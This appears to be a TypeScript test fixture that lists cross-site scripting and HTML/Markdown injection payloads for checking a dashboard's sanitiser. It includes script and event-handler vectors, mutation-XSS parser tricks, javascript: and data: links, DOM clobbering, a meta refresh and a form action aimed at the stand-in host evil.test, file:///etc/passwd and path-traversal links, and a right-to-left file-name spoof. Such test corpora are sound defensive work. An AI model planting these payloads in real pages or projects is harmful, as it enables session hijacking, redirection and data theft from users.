/**
 * What an attacker may write into a project to take over the page that shows it. Each sample calls `boom` with its name
 * where it runs, or asks a host that is not the dashboard's for something.
 */

const EVIL = 'evil.test'

/** HTML that runs or asks by itself in a page without defences. */
export const SAMPLES: Readonly<Record<string, string>> = {
  script: `<script>boom('script')</script>`,
  'script, odd case': `<ScRiPt/x>boom('script, odd case')</sCrIpT>`,
  'script elsewhere': `<script src="http://${EVIL}/script.js"></script>`,
  image: `<img src=x onerror="boom('image')">`,
  'image without spaces': `<img/src=x/onerror=boom('image&#32;without&#32;spaces')>`,
  'image set': `<img srcset="http://${EVIL}/set.png 1x">`,
  'image elsewhere': `<img src="//${EVIL}/pixel.png">`,
  svg: `<svg onload="boom('svg')"></svg>`,
  'svg script': `<svg><script>boom('svg script')</script></svg>`,
  'svg animation': `<svg><animate onbegin="boom('svg animation')" attributeName=x dur=1s></svg>`,
  'svg link': `<svg><a xlink:href="javascript:boom('svg link')"><text y=20>link</text></a></svg>`,
  'svg use': `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x"/></svg>`,
  frame: `<iframe srcdoc="<script>parent.boom('frame')</script>"></iframe>`,
  'frame elsewhere': `<iframe src="http://${EVIL}/frame"></iframe>`,
  'frame script': `<iframe src="javascript:parent.boom('frame script')"></iframe>`,
  object: `<object data="data:text/html,<script>parent.boom('object')</script>"></object>`,
  embed: `<embed src="http://${EVIL}/embed.swf">`,
  details: `<details open ontoggle="boom('details')"><summary>more</summary></details>`,
  autofocus: `<input autofocus onfocus="boom('autofocus')">`,
  video: `<video src="http://${EVIL}/video" onerror="boom('video')"><source onerror="boom('source')"></video>`,
  audio: `<audio src=x onerror="boom('audio')"></audio>`,
  style: `<style>@import 'http://${EVIL}/import.css'; body { display: none }</style>`,
  'style attribute': `<p style="background: url(http://${EVIL}/background.png)">styled</p>`,
  link: `<link rel=stylesheet href="http://${EVIL}/link.css"><link rel=preload as=image href="http://${EVIL}/pre">`,
  marquee: `<marquee onstart="boom('marquee')">x</marquee>`,
  table: `<table background="http://${EVIL}/table.png"><tr><td background="http://${EVIL}/cell.png">x</table>`,
  'math style': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=boom('math&#32;style')&gt;">`,
  'form math': `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="boom('form math')">`,
  'svg style': `<svg></p><style><a id="</style><img src=x onerror=boom('svg&#32;style')>">`,
  'noscript title': `<noscript><p title="</noscript><img src=x onerror=boom('noscript&#32;title')>">`,
  'text area': `<textarea><p title="</textarea><img src=x onerror=boom('text&#32;area')>">`,
  xmp: `<xmp><p title="</xmp><img src=x onerror=boom('xmp')>">`,
  'select template': `<select><template><style><!--</style><a rel="--></style></template></select><img id=x src=x onerror=boom('select&#32;template')>">`,
  comment: `<!--><img src=x onerror="boom('comment')">-->`,
  declaration: `<?xml ><img src=x onerror="boom('declaration')">?>`,
  cdata: `<svg><![CDATA[><img src=x onerror="boom('cdata')">]]></svg>`,
  'nested template': `<template><template shadowrootmode=open><img src=x onerror="boom('nested')"></template></template>`,
  'shadow root': `<div><template shadowrootmode=open><img src=x onerror="boom('shadow root')"></template></div>`,
  'many nested': `${'<div>'.repeat(600)}<img src=x onerror="boom('many nested')">${'</div>'.repeat(600)}`,
}

/** What would move the page itself away, take its names, or wait for a click. */
export const BY_THE_WAY = `
<meta http-equiv="refresh" content="0;url=http://${EVIL}/refresh">
<base href="http://${EVIL}/base/">
<form id=main name=body action="http://${EVIL}/form"><input name=attributes><input name=parentNode><button>Close</button></form>
<img name=getElementById><img name=querySelector><a id=location></a><a id=document name=trustedTypes></a>
<a href="javascript:boom('link')">link</a> <a href="&#1;java&#10;script:boom('odd link')">odd link</a>
<a href="data:text/html,<script>boom('data')</script>">data</a> <a href="http://${EVIL}/ping" ping="http://${EVIL}/ping">ping</a>
<area href="javascript:boom('area')"> <button formaction="javascript:boom('formaction')">Submit</button>
`

/** The same ends by means of Markdown. */
export const MARKDOWN = `
# <img src=x onerror=boom('heading')> \`</code><script>boom('code')</script>\` __proto__

[plain](javascript:boom('plain')) [case](JaVaScRiPt:boom('case')) [entity](javascript&colon;boom('entity'))
[tab](java&Tab;script:boom('tab')) [vb](vbscript:boom('vb')) [data](data:text/html;base64,PHNjcmlwdD5ib29tKCdkYXRhJyk8L3NjcmlwdD4=)
[blob](blob:http://${EVIL}/x) [file](file:///etc/passwd) [page](/api/shutdown) [up](../../../../etc/passwd)
[title](x "' onmouseover=boom('title') x='") ![alt"onerror="boom('alt')](x) ![image](javascript:boom('image link'))
![remote](http://${EVIL}/markdown.png) ![vector](data:image/svg+xml;base64,PHN2Zy8+) <javascript:boom('auto')> <http://${EVIL}/auto>

[reference]

[reference]: javascript:boom('reference) "x"

| <img src=x onerror=boom('cell')> | [cell](javascript:boom('cell link')) |
| :-: | - |
| <svg onload=boom('row')> | \\<img src=x onerror=boom('escaped')> |

\`\`\`"><img src=x onerror=boom('fence')>
</code></pre><script>boom('fenced')</script>
\`\`\`

- [x] <input onfocus=boom('task') autofocus>
- [ ] [^1]

[^1]: <script>boom('footnote')</script>

&lt;script&gt;boom('entities')&lt;/script&gt; &#60;img src=x onerror=boom('numeric')&#62;
`

/** Names and texts outside of documents. None has a slash: each can be the name of a file. */
export const NAMES: readonly string[] = [
  `<img src=x onerror=boom('name')>`,
  `"><svg onload=boom('quoted')>`,
  `javascript:boom('protocol')`,
  `'-boom('string')-'`,
  '${boom("template")}{{boom("moustache")}}',
  '__proto__',
  'constructor',
  `\u202Egnp.exe`,
]
